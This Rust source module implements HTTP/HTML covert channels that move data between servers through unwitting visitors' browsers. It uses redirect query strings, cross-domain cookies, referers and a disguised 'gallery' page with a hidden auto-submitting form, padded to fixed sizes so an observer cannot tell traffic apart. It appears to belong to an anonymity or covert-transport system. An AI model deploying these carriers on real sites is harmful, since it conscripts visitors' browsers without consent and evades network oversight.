//! The HTTP/HTML covert channel mechanisms as byte-payload codecs, plus the
//! carrier-document emitter.
//!
//! Five mechanisms move data between servers through unwitting browsers:
//! redirect query strings (capped at 1024 URL-encoded bytes), cookies (4096
//! bytes per value, 40 per server, with the domain dot rule), referer
//! headers (same length cap as redirects), auto-requesting HTML elements,
//! and script-driven form posts. The form-post carrier is the default
//! transport because it is the only one that moves a full slot in one
//! round trip.
//!
//! Slot bytes inside form fields, queries and cookie values use a 6-bit
//! URL- and cookie-safe encoding with 4/3 expansion.

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use std::sync::OnceLock;
use thiserror::Error;

use crate::codec::{Slot, SLOT_SIZE};
use crate::node::NodeResponse;

/// Capacity of the redirect channel in URL-encoded bytes.
pub const REDIRECT_QUERY_MAX: usize = 1024;
/// Maximum cookie value length.
pub const COOKIE_VALUE_MAX: usize = 4096;
/// Maximum cookies a client keeps per server.
pub const COOKIE_COUNT_MAX: usize = 40;

/// Exact size of the static page. All non-carrier responses are these
/// bytes, so errors and idle visits are indistinguishable on the wire.
pub const STATIC_DOC_LEN: usize = 4096;
/// Exact size of an auto-submit carrier document. Fixed so that all carry
/// responses have equal length regardless of target URL.
pub const AUTO_SUBMIT_DOC_LEN: usize = 8192;
/// Exact size of the script-free refresh-chain carrier variant.
pub const META_DOC_LEN: usize = 4096;

/// Form field name carrying the transport-encoded slot.
pub const FORM_FIELD: &str = "m";

#[derive(Debug, Error, PartialEq, Eq)]
pub enum ChannelError {
    #[error("URL-encoded query of {len} bytes exceeds the {REDIRECT_QUERY_MAX}-byte redirect limit")]
    RedirectTooLong { len: usize },
    #[error("cookie value of {len} bytes exceeds {COOKIE_VALUE_MAX}")]
    CookieValueTooLong { len: usize },
    #[error("payload needs {count} cookies, exceeding the {COOKIE_COUNT_MAX}-cookie limit")]
    CookieCountExceeded { count: usize },
    #[error("cookie domain {0:?} violates the dot rule")]
    BadCookieDomain(String),
    #[error("malformed transport encoding")]
    BadTransportEncoding,
    #[error("malformed query string")]
    BadQuery,
}

// ---------------------------------------------------------------------------
// Transport encoding
// ---------------------------------------------------------------------------

/// Encode bytes into the URL- and cookie-safe alphabet (4/3 expansion).
pub fn transport_encode(data: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(data)
}

pub fn transport_decode(text: &str) -> Result<Vec<u8>, ChannelError> {
    URL_SAFE_NO_PAD
        .decode(text.as_bytes())
        .map_err(|_| ChannelError::BadTransportEncoding)
}

// ---------------------------------------------------------------------------
// Cookie domain dot rule
// ---------------------------------------------------------------------------

/// Domain rule for cross-server cookies: at least two dots for a
/// three-letter (or longer) top-level domain, at least three dots for a
/// two-letter one. Shorter or non-alphabetic trailing labels never pass.
pub fn validate_cookie_domain(domain: &str) -> bool {
    let dots = domain.bytes().filter(|&b| b == b'.').count();
    let tail = domain.rsplit('.').next().unwrap_or("");
    if tail.is_empty() || !tail.bytes().all(|b| b.is_ascii_alphabetic()) {
        return false;
    }
    match tail.len() {
        1 => false,
        2 => dots >= 3,
        _ => dots >= 2,
    }
}

// ---------------------------------------------------------------------------
// Redirect channel
// ---------------------------------------------------------------------------

/// A redirect to a script URL with the payload in the query string.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RedirectCarrier {
    pub target: String,
    pub query: String,
}

impl RedirectCarrier {
    pub fn full_url(&self) -> String {
        format!("{}?{}", self.target, self.query)
    }
}

const UNRESERVED: fn(u8) -> bool =
    |b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~');

fn percent_encode(data: &[u8]) -> String {
    let mut out = String::with_capacity(data.len());
    for &b in data {
        if UNRESERVED(b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn percent_decode(text: &str) -> Result<Vec<u8>, ChannelError> {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'%' => {
                let hexpair = bytes.get(i + 1..i + 3).ok_or(ChannelError::BadQuery)?;
                let s = std::str::from_utf8(hexpair).map_err(|_| ChannelError::BadQuery)?;
                out.push(u8::from_str_radix(s, 16).map_err(|_| ChannelError::BadQuery)?);
                i += 3;
            }
            b if UNRESERVED(b) => {
                out.push(b);
                i += 1;
            }
            _ => return Err(ChannelError::BadQuery),
        }
    }
    Ok(out)
}

/// Carry a payload in the query string of a redirect. The whole URL-encoded
/// query must fit the 1024-byte channel limit.
pub fn encode_redirect(payload: &[u8], script_url: &str) -> Result<RedirectCarrier, ChannelError> {
    let query = format!("d={}", percent_encode(payload));
    if query.len() > REDIRECT_QUERY_MAX {
        return Err(ChannelError::RedirectTooLong { len: query.len() });
    }
    Ok(RedirectCarrier {
        target: script_url.to_string(),
        query,
    })
}

pub fn decode_redirect(query: &str) -> Result<Vec<u8>, ChannelError> {
    let encoded = query.strip_prefix("d=").ok_or(ChannelError::BadQuery)?;
    percent_decode(encoded)
}

// ---------------------------------------------------------------------------
// Cookie channel
// ---------------------------------------------------------------------------

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CookieCarrier {
    pub key: String,
    pub value: String,
    pub domain: String,
    pub path: String,
}

impl CookieCarrier {
    pub fn new(
        key: impl Into<String>,
        value: impl Into<String>,
        domain: impl Into<String>,
        path: impl Into<String>,
    ) -> Result<Self, ChannelError> {
        let value = value.into();
        if value.len() > COOKIE_VALUE_MAX {
            return Err(ChannelError::CookieValueTooLong { len: value.len() });
        }
        let domain = domain.into();
        if !validate_cookie_domain(&domain) {
            return Err(ChannelError::BadCookieDomain(domain));
        }
        Ok(CookieCarrier {
            key: key.into(),
            value,
            domain,
            path: path.into(),
        })
    }

    /// The Set-Cookie header value advising a client to keep this pair for
    /// every server in the cookie domain.
    pub fn header_value(&self) -> String {
        format!(
            "{}={}; domain={}; Path={};",
            self.key, self.value, self.domain, self.path
        )
    }
}

/// Split a payload across numbered cookies on one domain. Splitting is
/// deterministic; decoding concatenates values in key order.
pub fn encode_cookie_stream(
    payload: &[u8],
    domain: &str,
    key_prefix: &str,
) -> Result<Vec<CookieCarrier>, ChannelError> {
    if !validate_cookie_domain(domain) {
        return Err(ChannelError::BadCookieDomain(domain.to_string()));
    }
    let encoded = transport_encode(payload);
    let count = encoded.len().div_ceil(COOKIE_VALUE_MAX).max(1);
    if count > COOKIE_COUNT_MAX || encoded.len() > COOKIE_COUNT_MAX * COOKIE_VALUE_MAX {
        return Err(ChannelError::CookieCountExceeded { count });
    }
    let mut cookies = Vec::with_capacity(count);
    for (i, chunk) in encoded
        .as_bytes()
        .chunks(COOKIE_VALUE_MAX)
        .enumerate()
        .take(count.max(1))
    {
        cookies.push(CookieCarrier::new(
            format!("{key_prefix}{i:02}"),
            std::str::from_utf8(chunk).unwrap(),
            domain,
            "/",
        )?);
    }
    if cookies.is_empty() {
        cookies.push(CookieCarrier::new(
            format!("{key_prefix}00"),
            "",
            domain,
            "/",
        )?);
    }
    Ok(cookies)
}

pub fn decode_cookie_stream(cookies: &[CookieCarrier]) -> Result<Vec<u8>, ChannelError> {
    let mut sorted: Vec<&CookieCarrier> = cookies.iter().collect();
    sorted.sort_by(|a, b| a.key.cmp(&b.key));
    let mut encoded = String::new();
    for c in sorted {
        encoded.push_str(&c.value);
    }
    transport_decode(&encoded)
}

// ---------------------------------------------------------------------------
// Referer channel
// ---------------------------------------------------------------------------

/// Normalize a referer header to the sending node's script URL: strip the
/// query and fragment, require an http(s) scheme and a host, and reject
/// anything over the redirect length limit. Malformed input is `None`.
pub fn decode_referer(header_value: &str) -> Option<String> {
    if header_value.len() > REDIRECT_QUERY_MAX {
        return None;
    }
    let stripped = header_value
        .split(['?', '#'])
        .next()
        .unwrap_or_default()
        .trim();
    let rest = stripped
        .strip_prefix("http://")
        .or_else(|| stripped.strip_prefix("https://"))?;
    let host = rest.split('/').next().unwrap_or_default();
    if host.is_empty() {
        return None;
    }
    Some(stripped.to_string())
}

// ---------------------------------------------------------------------------
// META fragments: protocol headers moved into the document body, out of an
// header-level observer's view.
// ---------------------------------------------------------------------------

#[derive(Clone, Debug)]
pub enum MetaFragment<'a> {
    Refresh { delay_seconds: u32, url: &'a str },
    SetCookie(&'a CookieCarrier),
}

pub fn emit_meta(fragment: MetaFragment<'_>) -> Result<String, ChannelError> {
    match fragment {
        MetaFragment::Refresh { delay_seconds, url } => Ok(format!(
            "<META HTTP-EQUIV=\"Refresh\" CONTENT=\"{delay_seconds};URL={url}\">"
        )),
        MetaFragment::SetCookie(cookie) => {
            if !validate_cookie_domain(&cookie.domain) {
                return Err(ChannelError::BadCookieDomain(cookie.domain.clone()));
            }
            Ok(format!(
                "<META HTTP-EQUIV=\"Set-Cookie\" CONTENT=\"{}={};path={};domain={}\">",
                cookie.key, cookie.value, cookie.path, cookie.domain
            ))
        }
    }
}

/// The auto-requesting HTML elements this implementation emits. The full
/// tag set with this property is wider; these four cover transport.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AutoElement {
    Iframe,
    Img,
    ScriptSrc,
    MetaRefresh,
}

pub fn emit_auto_element(kind: AutoElement, url: &str) -> String {
    match kind {
        AutoElement::Iframe => format!("<iframe src=\"{url}\"></iframe>"),
        AutoElement::Img => format!("<img src=\"{url}\">"),
        AutoElement::ScriptSrc => format!("<script src=\"{url}\"></script>"),
        AutoElement::MetaRefresh => emit_meta(MetaFragment::Refresh {
            delay_seconds: 0,
            url,
        })
        .unwrap(),
    }
}

// ---------------------------------------------------------------------------
// Carrier documents
// ---------------------------------------------------------------------------

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum CarrierBehavior {
    AutoSubmitPost,
    MetaRefresh,
    Static,
}

/// Transport mode for carry responses.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum CarrierMode {
    /// Hidden form auto-submitted by script: one full slot per round trip.
    #[default]
    AutoSubmitPost,
    /// Script-free fallback riding the redirect channel; carries only the
    /// first 1024-byte-limited fragment of the slot per round trip.
    MetaRefresh,
}

/// HTML artifact a node returns to a client.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CarrierDocument {
    pub html: String,
    pub behavior: CarrierBehavior,
    pub embedded_slot: Option<Slot>,
    pub target: Option<String>,
}

fn pad_document(mut html: String, want: usize) -> String {
    // "<!-- " + fill + " -->\n" = 10 bytes of framing.
    if html.len() + 10 <= want {
        let fill = want - html.len() - 10;
        html.push_str("<!-- ");
        html.extend(std::iter::repeat_n('#', fill));
        html.push_str(" -->\n");
    }
    html
}

/// The short static page, byte-identical on every call.
pub fn static_document() -> &'static str {
    static DOC: OnceLock<String> = OnceLock::new();
    DOC.get_or_init(|| {
        let body = "<!DOCTYPE html>\n<html><head><title>gallery</title></head><body>\n\
             <img src=\"banner.img\" width=\"468\" height=\"60\" alt=\"sponsor\">\n\
             <p>Thanks for stopping by. Content rotates daily.</p>\n\
             </body></html>\n"
            .to_string();
        let doc = pad_document(body, STATIC_DOC_LEN);
        assert_eq!(doc.len(), STATIC_DOC_LEN);
        doc
    })
}

/// Render a node response as the document handed to the client. Carry
/// responses become a hidden self-submitting form whose single field is the
/// transport-encoded slot; a browser executing it issues one POST to the
/// carry target, with the referer naming `from_url`'s origin page.
pub fn emit_carrier(response: &NodeResponse, from_url: &str) -> CarrierDocument {
    emit_carrier_with(response, from_url, CarrierMode::AutoSubmitPost)
}

pub fn emit_carrier_with(
    response: &NodeResponse,
    from_url: &str,
    mode: CarrierMode,
) -> CarrierDocument {
    match response {
        NodeResponse::FixedHtml => CarrierDocument {
            html: static_document().to_string(),
            behavior: CarrierBehavior::Static,
            embedded_slot: None,
            target: None,
        },
        NodeResponse::Carry { slot, target } => match mode {
            CarrierMode::AutoSubmitPost => {
                let encoded = transport_encode(slot.as_bytes());
                let html = format!(
                    "<!DOCTYPE html>\n<html><head><title>gallery</title>\
                     <base href=\"{from_url}\"></head><body>\n\
                     <img src=\"banner.img\" width=\"468\" height=\"60\" alt=\"sponsor\">\n\
                     <form id=\"f\" method=\"POST\" action=\"{target}\">\
                     <input type=\"hidden\" name=\"{FORM_FIELD}\" value=\"{encoded}\">\
                     </form>\n\
                     <script>document.getElementById(\"f\").submit();</script>\n\
                     </body></html>\n"
                );
                CarrierDocument {
                    html: pad_document(html, AUTO_SUBMIT_DOC_LEN),
                    behavior: CarrierBehavior::AutoSubmitPost,
                    embedded_slot: Some(slot.clone()),
                    target: Some(target.clone()),
                }
            }
            CarrierMode::MetaRefresh => {
                // Fit as much of the slot as the redirect limit allows:
                // base64 is 4 chars per 3 bytes, all unreserved.
                let budget = (REDIRECT_QUERY_MAX - 2) / 4 * 3;
                let fragment = &slot.as_bytes()[..budget];
                let carrier = encode_redirect(
                    transport_encode(fragment).as_bytes(),
                    target,
                )
                .expect("fragment sized to the redirect limit");
                let refresh = emit_meta(MetaFragment::Refresh {
                    delay_seconds: 0,
                    url: &carrier.full_url(),
                })
                .unwrap();
                let html = format!(
                    "<!DOCTYPE html>\n<html><head><title>gallery</title>\
                     <base href=\"{from_url}\">{refresh}</head><body>\n\
                     <img src=\"banner.img\" width=\"468\" height=\"60\" alt=\"sponsor\">\n\
                     </body></html>\n"
                );
                CarrierDocument {
                    html: pad_document(html, META_DOC_LEN),
                    behavior: CarrierBehavior::MetaRefresh,
                    embedded_slot: Some(slot.clone()),
                    target: Some(target.clone()),
                }
            }
        },
    }
}

/// What a browser does with an auto-submit document: recover the slot and
/// the POST target. Returns `None` for static or foreign documents.
pub fn extract_carrier(html: &str) -> Option<(Slot, String)> {
    let action_start = html.find("action=\"")? + "action=\"".len();
    let action_end = action_start + html[action_start..].find('"')?;
    let target = &html[action_start..action_end];
    let needle = format!("name=\"{FORM_FIELD}\" value=\"");
    let value_start = html.find(&needle)? + needle.len();
    let value_end = value_start + html[value_start..].find('"')?;
    let bytes = transport_decode(&html[value_start..value_end]).ok()?;
    if bytes.len() != SLOT_SIZE {
        return None;
    }
    Some((Slot::from_vec(bytes).unwrap(), target.to_string()))
}
